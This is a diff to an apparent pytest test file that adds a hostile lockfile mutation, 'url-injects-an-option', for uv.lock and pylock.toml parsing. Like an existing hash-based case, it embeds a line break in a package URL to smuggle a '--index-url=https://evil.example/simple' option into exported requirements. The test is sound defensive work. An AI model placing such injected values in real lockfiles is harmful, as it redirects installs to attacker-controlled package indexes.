@@ -159,10 +159,16 @@ HOSTILE = {
     # a hash is written into the requirements lock: a line break in it would add an option line
     "hash-injects-an-option": lambda text: re.sub(r"([0-9a-f]{64})", r"\1\\n--index-url=https://evil.example/simple", text, 1),
     "hash-short": lambda text: re.sub(r"([0-9a-f]{64})", "abc", text, 1),
+    # bar as a direct URL (uv.lock: its source; pylock.toml: an archive), a line break in the URL
+    "url-injects-an-option": lambda text: re.sub(
+        r'(name = "bar"\nversion = "2.0"\n)(source = \{ registry = "[^"]*" \}|index = "[^"]*")',
+        r'\1source = { url = "https://x.example/bar-2.0-py3-none-any.whl\\n--index-url=https://evil.example/simple" }\n'
+        r'archive = { url = "https://x.example/bar-2.0.tar.gz\\n--index-url=https://evil.example/simple", hashes = { sha256 = "' + "0" * 64 + '" } }',
+        text, 1),
 }
 
 
-HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short"}
+HOSTILE_READ_BY_BOTH = {"hash-injects-an-option", "hash-short", "url-injects-an-option"}
 
 
 @pytest.mark.parametrize("fmt", ["uv-lock", "pylock"])
